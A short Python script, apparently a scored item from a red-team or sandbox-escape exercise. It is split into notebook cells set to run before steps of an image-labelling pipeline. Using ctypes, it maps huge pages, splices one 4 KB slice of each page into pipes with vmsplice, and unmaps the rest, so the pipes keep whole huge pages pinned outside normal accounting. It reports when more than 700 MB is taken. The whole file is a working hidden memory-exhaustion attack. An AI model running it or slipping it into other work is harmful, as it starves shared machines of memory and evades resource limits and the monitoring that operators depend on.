# Puts a small page of every huge one into a pipe and unmaps the rest: the pipe holds all of it.
# points: 18
# %% start
import ctypes as c, os
libc = c.CDLL(None, use_errno=True)
libc.mmap.restype = c.c_void_p
huge, got, kept = 2 << 20, [], []
def fill(times):
    for _ in range(times):
        kept.append(os.pipe())
        place = libc.mmap(None, c.c_size_t(17 * huge), 3, 0x22, -1, c.c_long(0))
        first = -(-place // huge) * huge
        libc.madvise(c.c_void_p(first), c.c_size_t(16 * huge), 14)  # MADV_HUGEPAGE
        for at in range(first, first + 16 * huge, huge):
            c.memset(at, 120, 1)
            piece = (c.c_size_t * 2)(at, 4096)
            if libc.vmsplice(kept[-1][1], c.byref(piece), c.c_size_t(1), 2) > 0:
                got.append(huge)
        libc.munmap(c.c_void_p(place), c.c_size_t(17 * huge))
    if sum(got) > 700 << 20:
        print("TAKEN", sum(got) >> 20, "MB")
# %% before pixel_features
fill(8)
# %% before feature_distance
fill(8)
# %% before assign_labels
fill(8)
